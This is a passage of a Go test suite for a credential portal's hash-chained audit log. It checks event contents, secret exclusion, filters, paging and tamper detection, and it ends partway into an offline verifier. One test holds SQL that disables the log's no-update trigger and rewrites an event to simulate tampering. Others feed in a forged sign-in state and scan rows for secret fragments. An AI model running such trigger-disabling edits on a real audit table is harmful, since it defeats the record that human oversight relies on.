package server

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/2i2c-org/credential-portal/internal/portal"
	"github.com/2i2c-org/credential-portal/internal/store"
)

// auditWorld is a portal with a cluster, a customer (alice) and a staff
// member (sam) signed in: the starting point of each action whose audit
// events the table test checks.
type auditWorld struct {
	t          *testing.T
	p          *testPortal
	cluster    *portal.Cluster
	alice, sam *browser
	aliceID    int64
	samID      int64
	key        string // alice's age recipient
	// Set by the rows' setup for their action.
	requestID, credentialID int64
	// secrets are values no audit row may hold.
	secrets []string
}

func newAuditWorld(t *testing.T) *auditWorld {
	t.Helper()
	p := newPortal(t, portalOptions{})
	w := &auditWorld{t: t, p: p, cluster: p.addCluster("awi-ciroh"), alice: p.signedIn("alice@example.org"), sam: p.signedIn("sam@2i2c.org")}
	w.aliceID = int64(p.count(`SELECT id FROM users WHERE email = 'alice@example.org'`))
	w.samID = int64(p.count(`SELECT id FROM users WHERE email = 'sam@2i2c.org'`))
	idn := newKey(t)
	w.key = idn.Recipient().String()
	w.secrets = append(w.secrets, idn.String())
	return w
}

// request has alice ask for a credential on the world's cluster.
func (w *auditWorld) request() {
	w.t.Helper()
	w.requestID = w.alice.requestAccess("awi-ciroh", w.key, "Grafana dashboards for our steering committee.")
}

// mark is the ID of the newest audit event.
func (w *auditWorld) mark() int64 {
	w.t.Helper()
	return int64(w.p.count(`SELECT coalesce(max(id), 0) FROM audit_events`))
}

// storedEvent is an audit event as the database holds it, with the whole
// row as JSON to search for secrets.
type storedEvent struct {
	ID          int64
	Actor       string
	ActorID     *int64
	Action      portal.Action
	SubjectType string
	SubjectID   *int64
	ClusterID   *int64
	Details     map[string]any
	IP          string
	Row         string
}

func (w *auditWorld) eventsAfter(id int64) []storedEvent {
	w.t.Helper()
	rows, err := w.p.Store.Pool().Query(context.Background(), `
		SELECT id, actor, actor_id, action, subject_type, subject_id, cluster_id, details, ip, row_to_json(a)::text
		FROM audit_events a WHERE id > $1 ORDER BY id`, id)
	if err != nil {
		w.t.Fatal(err)
	}
	defer rows.Close()
	var out []storedEvent
	for rows.Next() {
		var e storedEvent
		if err := rows.Scan(&e.ID, &e.Actor, &e.ActorID, &e.Action, &e.SubjectType, &e.SubjectID, &e.ClusterID,
			&e.Details, &e.IP, &e.Row); err != nil {
			w.t.Fatal(err)
		}
		out = append(out, e)
	}
	if err := rows.Err(); err != nil {
		w.t.Fatal(err)
	}
	return out
}

// collectSecrets adds what the action left that must stay out of the log:
// session cookies, password hashes.
func (w *auditWorld) collectSecrets(browsers ...*browser) {
	w.t.Helper()
	for _, b := range append(browsers, w.alice, w.sam) {
		if v := b.cookie("portal_session"); v != "" {
			w.secrets = append(w.secrets, v)
		}
	}
	rows, err := w.p.Store.Pool().Query(context.Background(), `SELECT password_hash FROM credentials`)
	if err != nil {
		w.t.Fatal(err)
	}
	hashes, err := collectStrings(rows)
	if err != nil {
		w.t.Fatal(err)
	}
	w.secrets = append(w.secrets, hashes...)
}

func collectStrings(rows interface {
	Next() bool
	Scan(...any) error
	Err() error
	Close()
}) ([]string, error) {
	defer rows.Close()
	var out []string
	for rows.Next() {
		var s string
		if err := rows.Scan(&s); err != nil {
			return nil, err
		}
		out = append(out, s)
	}
	return out, rows.Err()
}

// wantEvent is an audit event an action must write. Details lists the keys
// that must be there with these values; others may be there too.
type wantEvent struct {
	action      portal.Action
	actor       string
	actorID     int64 // 0: no user
	subjectType string
	subjectID   int64 // 0: none
	clusterID   int64 // 0: none
	details     map[string]any
	noDetails   bool // details must be empty
}

// neverInAuditRows are fragments of secrets whatever their value: a bcrypt
// hash, an age file or private key, a password field.
var neverInAuditRows = []string{"$2", "password", "age-encryption.org", "AGE-SECRET-KEY", "ciphertext", "csrf", "portal-sync-"}

// TestEveryActionIsAudited drives each action of the portal over HTTP and
// checks exactly which audit events it wrote, and that none holds a secret.
// A new action is a new row.
func TestEveryActionIsAudited(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		setup func(w *auditWorld) // before the action; its events are not checked
		act   func(t *testing.T, w *auditWorld) []wantEvent
	}{
		{name: "sign-in", act: func(t *testing.T, w *auditWorld) []wantEvent {
			b := w.p.signedIn("alice@example.org")
			w.collectSecrets(b)
			return []wantEvent{{action: portal.ActionSignedIn, actor: "alice@example.org", actorID: w.aliceID,
				subjectType: portal.SubjectUser, subjectID: w.aliceID, details: map[string]any{"role": "customer"}}}
		}},
		{name: "sign-out", act: func(t *testing.T, w *auditWorld) []wantEvent {
			page := w.alice.get("/dashboard")
			w.collectSecrets()
			w.alice.post("/logout", url.Values{"csrf": {csrfToken(t, page.Body)}})
			return []wantEvent{{action: portal.ActionSignedOut, actor: "alice@example.org", actorID: w.aliceID,
				subjectType: portal.SubjectUser, subjectID: w.aliceID, noDetails: true}}
		}},
		{name: "failed sign-in: wrong state", act: func(t *testing.T, w *auditWorld) []wantEvent {
			b := w.p.browser()
			b.noFollow().get("/login?login_hint=alice@example.org")
			r := b.get("/auth/callback?state=forged-state&code=stolen-code")
			if r.StatusCode != http.StatusBadRequest {
				t.Errorf("callback with a forged state: %d", r.StatusCode)
			}
			w.collectSecrets(b)
			w.secrets = append(w.secrets, "forged-state", "stolen-code")
			return []wantEvent{{action: portal.ActionSignInFailed, actor: portal.ActorAnonymous,
				details: map[string]any{"reason": "state does not match this browser's sign-in"}}}
		}},
		{name: "refused: customer on a staff API", act: func(t *testing.T, w *auditWorld) []wantEvent {
			if r := w.alice.get("/api/v1/audit"); r.StatusCode != http.StatusForbidden {
				t.Errorf("customer on /api/v1/audit: %d, want 403", r.StatusCode)
			}
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionAccessRefused, actor: "alice@example.org", actorID: w.aliceID,
				details: map[string]any{"method": "GET", "path": "/api/v1/audit"}}}
		}},
		{name: "request created", act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.request()
			w.collectSecrets()
			fp := w.p.count(`SELECT count(*) FROM requests WHERE id = $1 AND key_fingerprint LIKE 'SHA256:%'`, w.requestID)
			if fp != 1 {
				t.Fatal("the request has no fingerprint")
			}
			return []wantEvent{{action: portal.ActionRequestCreated, actor: "alice@example.org", actorID: w.aliceID,
				subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
				details: map[string]any{"cluster": "awi-ciroh", "key_type": "age-x25519"}}}
		}},
		{name: "request cancelled", setup: (*auditWorld).request, act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.alice.submit(fmt.Sprintf("/requests/%d", w.requestID), fmt.Sprintf("/requests/%d/cancel", w.requestID), nil)
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionRequestCancelled, actor: "alice@example.org", actorID: w.aliceID,
				subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID, noDetails: true}}
		}},
		{name: "request approved, credential issued", setup: (*auditWorld).request, act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.sam.approve(w.requestID, "welcome aboard")
			w.collectSecrets()
			credID := int64(w.p.count(`SELECT id FROM credentials WHERE request_id = $1`, w.requestID))
			var username string
			if err := w.p.Store.Pool().QueryRow(context.Background(), `SELECT username FROM credentials WHERE id = $1`, credID).Scan(&username); err != nil {
				t.Fatal(err)
			}
			return []wantEvent{
				{action: portal.ActionRequestApproved, actor: "sam@2i2c.org", actorID: w.samID,
					subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
					details: map[string]any{"note": "welcome aboard"}},
				{action: portal.ActionCredentialIssued, actor: "sam@2i2c.org", actorID: w.samID,
					subjectType: portal.SubjectCredential, subjectID: credID, clusterID: w.cluster.ID,
					details: map[string]any{"request_id": w.requestID, "username": username}},
			}
		}},
		{name: "request denied", setup: (*auditWorld).request, act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.sam.submit("/staff/requests", fmt.Sprintf("/staff/requests/%d/deny", w.requestID), url.Values{"note": {"Use the shared Grafana."}})
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionRequestDenied, actor: "sam@2i2c.org", actorID: w.samID,
				subjectType: portal.SubjectRequest, subjectID: w.requestID, clusterID: w.cluster.ID,
				details: map[string]any{"note": "Use the shared Grafana."}}}
		}},
		{name: "credential downloaded", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.alice.download(w.requestID)
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionCredentialDownloaded, actor: "alice@example.org", actorID: w.aliceID,
				subjectType: portal.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
				details: map[string]any{"download": 1}}}
		}},
		{name: "cluster created", act: func(t *testing.T, w *auditWorld) []wantEvent {
			r := w.sam.submit("/staff/clusters/new", "/staff/clusters", url.Values{"name": {"leap"},
				"display_name": {"LEAP"}, "prometheus_url": {"https://prometheus.leap.2i2c.cloud"},
				"credential_ttl_days": {"30"}, "enabled": {"on"}})
			if r.StatusCode != http.StatusOK {
				t.Fatalf("add cluster: %d", r.StatusCode)
			}
			w.collectSecrets()
			id := int64(w.p.count(`SELECT id FROM clusters WHERE name = 'leap'`))
			return []wantEvent{{action: portal.ActionClusterCreated, actor: "sam@2i2c.org", actorID: w.samID,
				subjectType: portal.SubjectCluster, subjectID: id, clusterID: id,
				details: map[string]any{"name": "leap", "credential_ttl_days": 30, "prometheus_url": "https://prometheus.leap.2i2c.cloud"}}}
		}},
		{name: "cluster updated", act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.sam.submit(fmt.Sprintf("/staff/clusters/%d/edit", w.cluster.ID), fmt.Sprintf("/staff/clusters/%d", w.cluster.ID), url.Values{"name": {"awi-ciroh"},
				"display_name": {w.cluster.DisplayName}, "prometheus_url": {w.cluster.PrometheusURL},
				"credential_ttl_days": {"60"}, "note": {w.cluster.Note}, "enabled": {"on"}})
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionClusterUpdated, actor: "sam@2i2c.org", actorID: w.samID,
				subjectType: portal.SubjectCluster, subjectID: w.cluster.ID, clusterID: w.cluster.ID,
				details: map[string]any{"name": "awi-ciroh", "credential_ttl_days": []any{90, 60}}}}
		}},
		{name: "credential revoked by staff", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.sam.submit(fmt.Sprintf("/credentials/%d", w.credentialID), fmt.Sprintf("/credentials/%d/revoke", w.credentialID), url.Values{"reason": {"left the project"}})
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionCredentialRevoked, actor: "sam@2i2c.org", actorID: w.samID,
				subjectType: portal.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
				details: map[string]any{"reason": "left the project", "by_owner": false}}}
		}},
		{name: "credential reported compromised", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
			w.alice.submit(fmt.Sprintf("/credentials/%d", w.credentialID), fmt.Sprintf("/credentials/%d/report-compromised", w.credentialID),
				url.Values{"details": {"pasted in a public notebook"}})
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionCredentialCompromised, actor: "alice@example.org", actorID: w.aliceID,
				subjectType: portal.SubjectCredential, subjectID: w.credentialID, clusterID: w.cluster.ID,
				details: map[string]any{"by_owner": true}}}
		}},
		{name: "credential renewed", setup: (*auditWorld).issued, act: func(t *testing.T, w *auditWorld) []wantEvent {
			r := w.alice.submit(fmt.Sprintf("/credentials/%d", w.credentialID), fmt.Sprintf("/credentials/%d/renew", w.credentialID), nil)
			m := requestPath.FindStringSubmatch(r.Request.URL.Path)
			if m == nil {
				t.Fatalf("renew ended at %s (%d)", r.Request.URL, r.StatusCode)
			}
			var id int64
			fmt.Sscan(m[1], &id)
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionRequestCreated, actor: "alice@example.org", actorID: w.aliceID,
				subjectType: portal.SubjectRequest, subjectID: id, clusterID: w.cluster.ID,
				details: map[string]any{"cluster": "awi-ciroh", "renews_credential_id": w.credentialID}}}
		}},
		{name: "cluster sync token rotated", act: func(t *testing.T, w *auditWorld) []wantEvent {
			r := w.sam.submit(fmt.Sprintf("/staff/clusters/%d/edit", w.cluster.ID), fmt.Sprintf("/staff/clusters/%d/sync-token", w.cluster.ID), nil)
			token := regexp.MustCompile(`portal-sync-[A-Za-z0-9_-]+`).FindString(r.Body)
			if token == "" {
				t.Fatalf("no token on the page (%d)", r.StatusCode)
			}
			w.secrets = append(w.secrets, token)
			w.collectSecrets()
			return []wantEvent{{action: portal.ActionClusterSyncTokenRotated, actor: "sam@2i2c.org", actorID: w.samID,
				subjectType: portal.SubjectCluster, subjectID: w.cluster.ID, clusterID: w.cluster.ID,
				details: map[string]any{"cluster": "awi-ciroh", "replaced_earlier_token": false}}}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newAuditWorld(t)
			if tt.setup != nil {
				tt.setup(w)
			}
			mark := w.mark()
			want := tt.act(t, w)
			got := w.eventsAfter(mark)
			if len(got) != len(want) {
				var actions []portal.Action
				for _, e := range got {
					actions = append(actions, e.Action)
				}
				t.Fatalf("the action wrote %d audit events %v, want %d", len(got), actions, len(want))
			}
			for i, e := range got {
				checkEvent(t, e, want[i])
				for _, s := range append(slices.Clone(neverInAuditRows), w.secrets...) {
					if s != "" && strings.Contains(e.Row, s) {
						t.Errorf("audit event %d (%s) holds a secret %.12q…: %s", e.ID, e.Action, s, e.Row)
					}
				}
			}
		})
	}
}

func checkEvent(t *testing.T, got storedEvent, want wantEvent) {
	t.Helper()
	id := func(p *int64) int64 {
		if p == nil {
			return 0
		}
		return *p
	}
	if got.Action != want.action || got.Actor != want.actor || id(got.ActorID) != want.actorID ||
		got.SubjectType != want.subjectType || id(got.SubjectID) != want.subjectID || id(got.ClusterID) != want.clusterID {
		t.Errorf("event %d: %s by %s (user %d) on %s %d, cluster %d;\nwant %s by %s (user %d) on %s %d, cluster %d",
			got.ID, got.Action, got.Actor, id(got.ActorID), got.SubjectType, id(got.SubjectID), id(got.ClusterID),
			want.action, want.actor, want.actorID, want.subjectType, want.subjectID, want.clusterID)
	}
	if got.IP == "" {
		t.Errorf("event %d (%s) has no client address", got.ID, got.Action)
	}
	if want.noDetails && len(got.Details) != 0 {
		t.Errorf("event %d (%s): details %v, want none", got.ID, got.Action, got.Details)
	}
	for k, v := range want.details {
		if fmt.Sprint(got.Details[k]) != fmt.Sprint(v) {
			t.Errorf("event %d (%s): details[%q] = %v, want %v (details %v)", got.ID, got.Action, k, got.Details[k], v, got.Details)
		}
	}
}

// seedAudit appends n events straight to the store, as varied as the review
// needs, and returns them oldest first. The store dates each event by the
// database's clock; when vary gives events times of their own, they are
// written with those times instead (writeDated).
func seedAudit(t *testing.T, p *testPortal, n int, vary func(i int, e *portal.AuditEvent)) []*portal.AuditEvent {
	t.Helper()
	ctx := context.Background()
	var out []*portal.AuditEvent
	dated := false
	for i := range n {
		e := &portal.AuditEvent{Actor: fmt.Sprintf("user%d@example.org", i%3), Action: portal.ActionSignedIn,
			SubjectType: portal.SubjectUser, Details: map[string]any{"i": i}, IP: "192.0.2.1", UserAgent: "seed"}
		if vary != nil {
			vary(i, e)
		}
		dated = dated || !e.At.IsZero()
		out = append(out, e)
	}
	if dated {
		writeDated(t, p, out)
		return out
	}
	err := p.Store.InTx(ctx, func(tx *store.Store) error { return tx.AppendAudit(ctx, out...) })
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// auditChainLock is the store's advisory lock on the audit chain.
const auditChainLock = 0x6175646974

// writeDated writes events with the times they carry, chained after the
// head, straight into the table, as an import of old events would: the
// store's AppendAudit dates every event by the database's clock.
func writeDated(t *testing.T, p *testPortal, events []*portal.AuditEvent) {
	t.Helper()
	ctx := context.Background()
	tx, err := p.Store.Pool().Begin(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback(ctx) //nolint:errcheck
	prev := portal.GenesisHash()
	if _, err := tx.Exec(ctx, `SELECT pg_advisory_xact_lock($1)`, auditChainLock); err != nil {
		t.Fatal(err)
	}
	if err := tx.QueryRow(ctx, `SELECT hash FROM audit_events ORDER BY id DESC LIMIT 1`).Scan(&prev); err != nil && !errors.Is(err, pgx.ErrNoRows) {
		t.Fatal(err)
	}
	for _, e := range events {
		e.At = e.At.UTC().Truncate(time.Microsecond)
		hash, err := e.ChainHash(prev)
		if err != nil {
			t.Fatal(err)
		}
		details, err := portal.CanonicalDetails(e.Details)
		if err != nil {
			t.Fatal(err)
		}
		e.PrevHash, e.Hash, prev = prev, hash, hash
		err = tx.QueryRow(ctx, `
			INSERT INTO audit_events (at, actor_id, actor, action, subject_type, subject_id, cluster_id,
			                          details, ip, user_agent, prev_hash, hash)
			VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12)
			RETURNING id`,
			e.At, e.ActorID, e.Actor, e.Action, e.SubjectType, e.SubjectID, e.ClusterID,
			details, e.IP, e.UserAgent, e.PrevHash, e.Hash).Scan(&e.ID)
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := tx.Commit(ctx); err != nil {
		t.Fatal(err)
	}
}

func TestAuditPageLinksEachSubject(t *testing.T) {
	t.Parallel()
	w := newAuditWorld(t)
	w.issued()
	page := w.sam.get("/staff/audit")
	if page.StatusCode != http.StatusOK {
		t.Fatalf("/staff/audit: %d\n%s", page.StatusCode, page.Body)
	}
	for _, want := range []string{
		fmt.Sprintf(`<a href="/requests/%d">request #%d</a>`, w.requestID, w.requestID),
		fmt.Sprintf(`<a href="/credentials/%d">credential %d</a>`, w.credentialID, w.credentialID),
		`<td data-label="Subject">alice@example.org</td>`,  // alice's sign-in: the user subject shown by email
		`<a href="/staff/audit?actor=alice%40example.org"`, // the actor, a filter away
		`<code>credential.issued</code>`,                   // the action
		`The chain has not been verified yet`,              // no verification yet
		`<a href="/staff/audit">Audit log</a>`,             // the staff navigation
		`action="/staff/audit/verify"`,                     // the verify button
		`href="/staff/audit/export.csv?"`,                  // the exports
		`<option value="awi-ciroh">awi-ciroh</option>`,     // the cluster filter
	} {
		if !strings.Contains(page.Body, want) {
			t.Errorf("the audit page lacks %s", want)
		}
	}
	// A cluster's own events link to its page, by name.
	w.sam.submit(fmt.Sprintf("/staff/clusters/%d/edit", w.cluster.ID), fmt.Sprintf("/staff/clusters/%d", w.cluster.ID), url.Values{"name": {"awi-ciroh"},
		"display_name": {"AWI-CIROH"}, "prometheus_url": {w.cluster.PrometheusURL}, "credential_ttl_days": {"90"}, "enabled": {"on"}})
	cluster := w.sam.get(fmt.Sprintf("/staff/audit?subject_type=cluster&subject_id=%d", w.cluster.ID))
	link := fmt.Sprintf(`<a href="/staff/clusters/%d/edit">cluster awi-ciroh</a>`, w.cluster.ID)
	if cluster.StatusCode != http.StatusOK || strings.Count(cluster.Body, `<tr id="event-`) != 1 || !strings.Contains(cluster.Body, link) {
		t.Errorf("the cluster's events: %d, want its one update linking %s:\n%s", cluster.StatusCode, link, cluster.Body)
	}
	// Customers see none of it.
	for _, path := range []string{"/staff/audit", "/staff/audit/export.csv", "/staff/audit/export.jsonl", "/api/v1/audit/export?format=csv"} {
		if r := w.alice.get(path); r.StatusCode != http.StatusForbidden || strings.Contains(r.Body, "credential.issued") {
			t.Errorf("customer on %s: %d", path, r.StatusCode)
		}
	}
}

func TestAuditPageFiltersAndPages(t *testing.T) {
	t.Parallel()
	p := newPortal(t, portalOptions{})
	sam := p.signedIn("sam@2i2c.org")
	seeded := seedAudit(t, p, 120, nil)

	// 40 of the 120 are user1's; a page holds 50.
	page := sam.get("/staff/audit?actor=USER1@example.org")
	rows := regexp.MustCompile(`<tr id="event-(\d+)">`).FindAllStringSubmatch(page.Body, -1)
	if len(rows) != 40 || strings.Contains(page.Body, `rel="next"`) {
		t.Errorf("actor filter: %d rows, want 40 on one page", len(rows))
	}
	if !strings.Contains(page.Body, `value="USER1@example.org"`) {
		t.Error("the form does not keep the filter")
	}

	// Page through everything: 50, 50, then the rest, newest first, each
	// event once, unshaken by events arriving meanwhile.
	var seen []string
	next := "/staff/audit"
	for pages := 0; next != ""; pages++ {
		if pages > 3 {
			t.Fatal("too many pages")
		}
		r := sam.get(next)
		for _, m := range regexp.MustCompile(`<tr id="event-(\d+)">`).FindAllStringSubmatch(r.Body, -1) {
			seen = append(seen, m[1])
		}
		next = ""
		if m := regexp.MustCompile(`<a href="([^"]+)" rel="next">Older</a>`).FindStringSubmatch(r.Body); m != nil {
			next = strings.ReplaceAll(m[1], "&amp;", "&")
		}
		if pages == 0 {
			seedAudit(t, p, 5, func(_ int, e *portal.AuditEvent) { e.Actor = "late@example.org" })
		}
	}
	// sam's own sign-in is the oldest event; the 120 come after it.
	want := []string{}
	for i := len(seeded) - 1; i >= 0; i-- {
		want = append(want, fmt.Sprint(seeded[i].ID))
	}
	if len(seen) != 121 || !slices.Equal(seen[:120], want) {
		t.Errorf("paged through %d events, want sam's sign-in and the 120 seeded, newest first", len(seen))
	}

	// A bad filter says what to fix, on the page.
	bad := sam.get("/staff/audit?action=user.hacked")
	if bad.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(bad.Body, "not one the portal records") {
		t.Errorf("bad action on the page: %d", bad.StatusCode)
	}
}

// apiAuditPage is the body of GET /api/v1/audit.
type apiAuditPage struct {
	Events     []apiAuditEventJSON `json:"events"`
	NextCursor *string             `json:"next_cursor"`
}

func TestAuditAPI(t *testing.T) {
	t.Parallel()
	p := newPortal(t, portalOptions{})
	leap := p.addCluster("leap")
	sam := p.signedIn("sam@2i2c.org")
	from := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	seedAudit(t, p, 30, func(i int, e *portal.AuditEvent) {
		e.At = from.Add(time.Duration(i) * 24 * time.Hour) // 1 to 30 January
		if i%2 == 0 {
			e.Action, e.ClusterID = portal.ActionRequestCreated, &leap.ID
			subject := int64(100 + i)
			e.SubjectType, e.SubjectID = portal.SubjectRequest, &subject
			e.Details = map[string]any{"i": i, "note": fmt.Sprintf("100%% sure, number_%d", i)}
		}
	})

	get := func(query string) apiAuditPage {
		t.Helper()
		var out apiAuditPage
		r := sam.get("/api/v1/audit?" + query)
		if r.StatusCode != http.StatusOK {
			t.Fatalf("?%s: %d %s", query, r.StatusCode, r.Body)
		}
		decodeJSON(t, r, &out)
		return out
	}
	tests := []struct {
		query string
		want  int
	}{
		{"", 31},
		{"actor=user0@example.org", 10},
		{"actor=user*", 30},
		{"action=request.created", 15},
		{"cluster=leap", 15},
		{"subject_type=request&subject_id=104", 1},
		{"from=2026-01-10&to=2026-01-19", 10}, // to is inclusive of its day
		{"from=2026-01-10T00:00:00Z&to=2026-01-19T00:00:00Z", 9},
		{"q=number_1", 5},       // 10, 12, 14, 16, 18
		{"q=100%25%20sure", 15}, // % is a plain character
		{"q=number%5F2", 6},     // so is _: 2, 20, 22, 24, 26, 28
		{"action=request.created&cluster=leap&actor=user1*&from=2026-01-01&to=2026-01-31", 5},
	}
	for _, tt := range tests {
		if got := get(tt.query + "&limit=500"); len(got.Events) != tt.want || got.NextCursor != nil {
			t.Errorf("?%s: %d events (next %v), want %d", tt.query, len(got.Events), got.NextCursor, tt.want)
		}
	}

	// An event carries what a reviewer and a verifier need.
	e := get("subject_type=request&subject_id=104").Events[0]
	if e.Cluster != "leap" || e.ClusterID == nil || *e.ClusterID != leap.ID || e.Action != portal.ActionRequestCreated ||
		e.At != "2026-01-05T00:00:00.000000Z" || len(e.Hash) != 64 || len(e.PrevHash) != 64 || e.IP != "192.0.2.1" || e.UserAgent != "seed" {
		t.Errorf("event as the API shows it: %+v", e)
	}
	if string(e.Details) != `{"i":4,"note":"100% sure, number_4"}` {
		t.Errorf("details %s, want the canonical form", e.Details)
	}

	// Pages of 7 with the cursor: every event once, newest first (sam's
	// sign-in, today, then 30 to 1 January).
	all := get("limit=500")
	var ids, want []int64
	for _, e := range all.Events {
		want = append(want, e.ID)
	}
	query := "limit=7"
	for range 10 {
		page := get(query)
		for _, e := range page.Events {
			ids = append(ids, e.ID)
		}
		if page.NextCursor == nil {
			break
		}
		query = "limit=7&cursor=" + url.QueryEscape(*page.NextCursor)
	}
	if len(ids) != 31 || !slices.Equal(ids, want) || all.Events[1].At != "2026-01-30T00:00:00.000000Z" {
		t.Errorf("paged %v, want %v", ids, want)
	}

	// Bad values are refused with the parameter's name.
	for _, tt := range []struct{ query, field string }{
		{"action=user.hacked", "action"},
		{"cluster=nowhere", "cluster"},
		{"subject_type=hub", "subject_type"},
		{"subject_type=request&subject_id=-3", "subject_id"},
		{"subject_id=3", "subject_type"},
		{"from=yesterday", "from"},
		{"to=2026-13-01", "to"},
		{"from=2026-02-01&to=2026-01-01", "to"},
		{"cursor=not-a-cursor", "cursor"},
		{"cursor=" + base64.RawURLEncoding.EncodeToString([]byte("17:x")), "cursor"},
		{"limit=0", "limit"},
		{"limit=501", "limit"},
		{"q=" + strings.Repeat("x", 201), "q"},
		{"actor=" + strings.Repeat("a", 321), "actor"},
	} {
		r := sam.get("/api/v1/audit?" + tt.query)
		var body apiError
		_ = json.Unmarshal([]byte(r.Body), &body)
		if r.StatusCode != http.StatusUnprocessableEntity || body.Field != tt.field || !strings.Contains(body.Error, tt.field) {
			t.Errorf("?%.40s: %d %s; want 422 naming %s", tt.query, r.StatusCode, r.Body, tt.field)
		}
	}
}

func TestAuditVerifyNow(t *testing.T) {
	t.Parallel()
	p := newPortal(t, portalOptions{})
	sam := p.signedIn("sam@2i2c.org")
	seeded := seedAudit(t, p, 10, nil)

	// Without the form's token, nothing runs.
	if r := sam.post("/staff/audit/verify", nil); r.StatusCode != http.StatusForbidden {
		t.Errorf("verify without a CSRF token: %d", r.StatusCode)
	}
	// The refusal is audited too: it is the head now.
	var head struct {
		ID   int64
		Hash []byte
	}
	if err := p.Store.Pool().QueryRow(context.Background(), `SELECT id, hash FROM audit_events ORDER BY id DESC LIMIT 1`).Scan(&head.ID, &head.Hash); err != nil {
		t.Fatal(err)
	}
	r := sam.submit("/staff/audit", "/staff/audit/verify", nil)
	want := fmt.Sprintf("Chain verified up to event <strong>%d</strong>", head.ID)
	if r.Request.URL.Path != "/staff/audit" || !strings.Contains(r.Body, "The audit chain checks out: 12 events") ||
		!strings.Contains(r.Body, want) || !strings.Contains(r.Body, hex.EncodeToString(head.Hash)) || !strings.Contains(r.Body, "by sam@2i2c.org") {
		t.Errorf("after Verify now, the page lacks %q and the head's hash:\n%s", want, r.Body)
	}

	// A superuser rewrites an event; the next verification says where.
	_, err := p.Store.Pool().Exec(context.Background(), `
		ALTER TABLE audit_events DISABLE TRIGGER audit_events_no_update_delete;
		UPDATE audit_events SET details = '{"i": 99}' WHERE id = `+fmt.Sprint(seeded[4].ID)+`;
		ALTER TABLE audit_events ENABLE TRIGGER audit_events_no_update_delete;`)
	if err != nil {
		t.Fatal(err)
	}
	r = sam.post("/staff/audit/verify", url.Values{"csrf": {csrfToken(t, r.Body)}})
	want = fmt.Sprintf("found the chain broken at event %d", seeded[4].ID)
	if !strings.Contains(r.Body, `class="chain-broken"`) || !strings.Contains(r.Body, want) || !strings.Contains(r.Body, "hash mismatch") {
		t.Errorf("after tampering, the page lacks the warning %q:\n%s", want, r.Body)
	}
	// And it stays on the page until a verification finds the chain whole.
	if r := sam.get("/staff/audit"); !strings.Contains(r.Body, `class="chain-broken"`) {
		t.Error("the warning is gone on the next view")
	}
}

// exportedEvent builds an exported event the way the README's "Verifying an
// export offline" tells a verifier to, from the fields of its line by name,
// as text ("" for null).
func exportedEvent(t *testing.T, field func(name string) string) portal.AuditEvent {
	t.Helper()
	id := func(name string) *int64 {
		if field(name) == "" {
			return nil
		}
		n, err := strconv.ParseInt(field(name), 10, 64)
		if err != nil {
			t.Fatalf("event %s: %s %q: %v", field("id"), name, field(name), err)
		}
		return &n
	}
	hash := func(name string) []byte {
		h, err := hex.DecodeString(field(name))
		if err != nil {
			t.Fatalf("event %s: %s %q: %v", field("id"), name, field(name), err)
		}
		return h
	}
	at, err := time.Parse(time.RFC3339Nano, field("at"))
	if err != nil {
		t.Fatalf("event %s: at %q: %v", field("id"), field("at"), err)
	}
	dec := json.NewDecoder(strings.NewReader(field("details")))
	dec.UseNumber()
	var details map[string]any
	if err := dec.Decode(&details); err != nil {
		t.Fatalf("event %s: details: %v", field("id"), err)
	}
	e := portal.AuditEvent{At: at, ActorID: id("actor_id"), Actor: field("actor"), Action: portal.Action(field("action")),
		SubjectType: field("subject_type"), SubjectID: id("subject_id"), ClusterID: id("cluster_id"), Details: details,
		IP: field("ip"), UserAgent: field("user_agent"), PrevHash: hash("prev_hash"), Hash: hash("hash")}
	if n := id("id"); n != nil {
		e.ID = *n
	}
	return e
}

// readJSONL reads a JSON Lines export as an offline verifier would, knowing
// only the documented format.
func readJSONL(t *testing.T, body string) []portal.AuditEvent {
	t.Helper()
	var events []portal.AuditEvent
	for line := range strings.Lines(body) {
		var fields map[string]json.RawMessage
		if err := json.Unmarshal([]byte(line), &fields); err != nil {
			t.Fatalf("line %d: %v", len(events)+1, err)
		}
		events = append(events, exportedEvent(t, func(name string) string {
			var s string
			if json.Unmarshal(fields[name], &s) != nil {
				return string(fields[name]) // a number or the details
			}
			return s
		}))
	}
	return events
}

// verifyOffline checks exported events the way the export's documentation
// says: each event's hash from its fields and prev_hash and, when linked,
// each prev_hash against the hash of the event before, the first against the
// genesis hash, and each time against the time of the event before. It returns the ID of the first event that does not check
// out, or 0.
func verifyOffline(t *testing.T, events []portal.AuditEvent, linked bool) int64 {
	t.Helper()
	prev, prevAt := portal.GenesisHash(), time.Time{}
